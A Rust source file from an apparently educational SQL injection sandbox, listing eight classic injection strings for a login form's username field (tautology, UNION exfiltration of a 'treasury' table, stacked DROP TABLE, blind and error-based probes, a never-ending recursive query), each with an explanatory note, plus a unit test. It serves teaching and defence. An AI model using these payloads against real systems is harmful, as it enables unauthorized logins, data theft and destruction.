//! The SQL injection gallery: classic attacks a learner can pick, each typed into the login
//! form's username with a note. The native tests run every one against the real SQLite in every
//! mode: each reaches its aim through the f-string and none does through bound parameters or
//! an ORM.

use serde::Serialize;

use super::Call;

/// What an attack is after; the tests and the fix quest check it on the real database.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Aim {
    /// Be logged in as this user without their password.
    LogInAs(&'static str),
    /// Get a treasury secret into the result.
    ReadTreasury,
    /// Destroy this table (needs `executescript`).
    DropTable(&'static str),
    /// A yes/no question: the login succeeds for this username and fails for `opposite`.
    Blind { opposite: &'static str },
    /// Learn about the database from an error message containing this text.
    ErrorMentions(&'static str),
    /// Keep the database busy until the sandbox's time budget stops it.
    Runaway,
}

/// One attack of the gallery.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Attack {
    pub name: &'static str,
    /// What goes into the username field.
    pub username: &'static str,
    /// The `sqlite3` call the attack needs in the f-string version.
    pub call: Call,
    pub aim: Aim,
    pub note: &'static str,
}

/// The gallery, in the order the sandbox lists it.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "Tautology",
        username: "' OR '1'='1' --",
        call: Call::Execute,
        aim: Aim::LogInAs("king"),
        note: "OR '1'='1' is true for every row, and -- turns the password check into a comment. Without the --, AND binds tighter than OR and the password check would still apply. fetchone() takes the first user: the king.",
    },
    Attack {
        name: "Comment truncation",
        username: "king'--",
        call: Call::Execute,
        aim: Aim::LogInAs("king"),
        note: "The quote closes the username literal early; -- comments out AND password_hash = '…', so only the name is checked.",
    },
    Attack {
        name: "UNION SELECT exfiltration",
        username: "' UNION SELECT id, item, secret FROM treasury --",
        call: Call::Execute,
        aim: Aim::ReadTreasury,
        note: "No user is called '', so the first SELECT returns nothing; UNION appends the treasury's rows, three columns to match. The login page greets you with a treasure's name and secret.",
    },
    Attack {
        name: "Stacked query",
        username: "'; DROP TABLE users;--",
        call: Call::ExecuteScript,
        aim: Aim::DropTable("users"),
        note: "The ; ends the SELECT and starts a second statement. execute() refuses more than one statement; executescript() runs them all, and the users table is gone.",
    },
    Attack {
        name: "Boolean-blind probe",
        username: "king' AND substr(password_hash, 1, 1) < '8' --",
        call: Call::Execute,
        aim: Aim::Blind { opposite: "king' AND substr(password_hash, 1, 1) >= '8' --" },
        note: "The page shows no data, only \"logged in\" or not: that is one yes/no answer per try, here about the first character of the king's hash. Enough tries read the whole hash.",
    },
    Attack {
        name: "Error-based probe",
        username: "' UNION SELECT 1, 2 --",
        call: Call::Execute,
        aim: Aim::ErrorMentions("do not have the same number of result columns"),
        note: "A wrong guess at the number of columns gives an error; the guess that gives none tells the attacker how to build a UNION. Debug pages that print database errors help attackers.",
    },
    Attack {
        name: "Error-based leak",
        username: "' OR json_extract('{}', (SELECT secret FROM treasury)) --",
        call: Call::Execute,
        aim: Aim::ErrorMentions("vault code"),
        note: "The secret is used as a JSON path; SQLite's error message quotes the bad path, and with it the secret.",
    },
    Attack {
        name: "Runaway query",
        username: "' UNION SELECT x, x, x FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c) --",
        call: Call::Execute,
        aim: Aim::Runaway,
        note: "A recursive query that never ends: on a server, one such request keeps a worker busy. The sandbox stops any statement after 250 ms.",
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_gallery_has_the_attacks_the_lesson_names() {
        let names: Vec<&str> = ATTACKS.iter().map(|attack| attack.name).collect();
        for name in [
            "Tautology",
            "Comment truncation",
            "UNION SELECT exfiltration",
            "Stacked query",
            "Boolean-blind probe",
            "Error-based probe",
        ] {
            assert!(names.contains(&name), "{name}");
        }
        assert!(ATTACKS.iter().all(|attack| !attack.note.is_empty()));
    }
}
